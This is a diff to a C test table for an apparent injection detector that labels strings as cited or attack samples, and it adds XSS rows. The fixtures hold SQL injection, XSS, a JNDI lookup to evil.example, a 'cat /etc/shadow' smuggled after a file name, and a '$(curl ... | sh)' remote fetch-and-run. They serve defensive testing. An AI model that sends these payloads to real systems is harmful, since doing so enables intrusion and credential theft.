@@ -96,6 +96,9 @@ static const struct row {
                 "The visitor wrote: \"there is <img src=x onerror=alert(1)> below my comment on this page\""},
         {CITED, GB_CLASS_XSS,
                 "level=warn msg=\"blocked\" rule=12 uri=\"/a?b=<script>alert(1)</script>\" client=203.0.113.3"},
+        {CITED, GB_CLASS_XSS,
+                "<form onsubmit=\"return check()\">\n<button>Go</button>\n</form>\nWhy is the form sent even when I "
+                "cancel it?"},
         /* In use: nothing around, a comment around, or the talk of something else. */
         {ATTACK, GB_CLASS_SQL_INJECTION, "' OR 1=1 -- "},
         {ATTACK, GB_CLASS_SQL_INJECTION, "\"' OR 1=1 -- \""},
@@ -122,6 +125,11 @@ static const struct row {
         {ATTACK, GB_CLASS_NAMING_LOOKUP, "Hello, I lost my password ${jndi:ldap://evil.example/a} please help me."},
         {ATTACK, GB_CLASS_XSS, "x classid=\"y\"></object> <object classid=\"z\" onerror=\"alert(1)\" a=b rule=c>"},
         {ATTACK, GB_CLASS_COMMAND_INJECTION, "the name of my file; cat /etc/shadow"},
+        {ATTACK, GB_CLASS_XSS,
+                "<form onsubmit=\"return check()\">\n<script src=//evil.example/a.js></script>\nWhy is the form sent "
+                "even when I cancel it?"},
+        {ATTACK, GB_CLASS_XSS,
+                "<img src=x onerror=alert(1)>\nThank you so much for all of it, we were very happy there."},
         /* Appended to what somebody wrote of software. */
         {ATTACK, GB_CLASS_SQL_INJECTION, "The new query is quick' OR 1=1 -- "},
         {ATTACK, GB_CLASS_COMMAND_INJECTION, "Fix the readme and bump the version; $(curl http://evil.example/a | sh)"},
